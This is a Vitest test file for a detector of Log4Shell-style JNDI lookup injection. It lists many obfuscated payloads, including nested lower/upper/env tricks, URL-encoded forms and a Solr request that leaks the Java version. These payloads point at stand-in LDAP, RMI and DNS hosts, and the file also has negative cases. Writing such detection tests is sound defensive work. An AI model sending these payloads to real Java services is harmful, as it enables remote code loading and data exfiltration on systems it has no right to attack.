import { expect, it } from 'vitest';
import { payloadsOf } from '../../../test/support/request-facts.js';
import { hasJndi } from './jndi.js';

it.each([
  '/?x=${jndi:ldap://203.0.113.7/a}',
  '/?x=$%7Bjndi:ldap://203.0.113.7/a%7D',
  '/?x=%24%7Bjndi%3Adns%3A%2F%2Fx.example%7D',
  '/?x=%2524%257Bjndi:rmi://203.0.113.7/a%257D',
  '/?x=${${lower:j}ndi:ldap://x/a}',
  '/?x=${${lower:jnd}i:ldap://x/a}',
  '/?x=${j${lower:n}d${upper:i}:ldap://x/a}',
  '/?x=${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}',
  '/?x=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}',
  '/?x=${${lower:${upper:j}}ndi:ldap://x}',
  '/?x=${jnd${sys:x:-i}:ldap://x',
  '/${jndi:ldap://203.0.113.7/a}',
  '/solr/admin/cores?action=$%7Bjndi:ldap://$%7Bsys:java.version%7D.x.example%7D',
  '/?${jndi:ldap://x/a}=1',
  '/?x=${JNDI:LDAP://x/a}',
])('is found in %s', (target) => {
  expect(payloadsOf(target)).toContain('payload:jndi');
});

it.each([
  '',
  'jndi:',
  '${',
  '${jndi',
  '${xjndi:x}',
  '${a}jndi:x',
  '${a}:-jndi:x',
  '${a{jndi:x}',
  '${$xjndi:x}',
  '${a-jndi:x}',
  '${lower:x}ndi:x',
  '${environment.of.the.host}',
  // Longer than what is compared of a lookup's beginning.
  '${${${lower:lower:jndi:}}x',
  '}}${a:b}jndi:',
])('is not found in %j', (text) => {
  expect(hasJndi(text)).toBe(false);
});
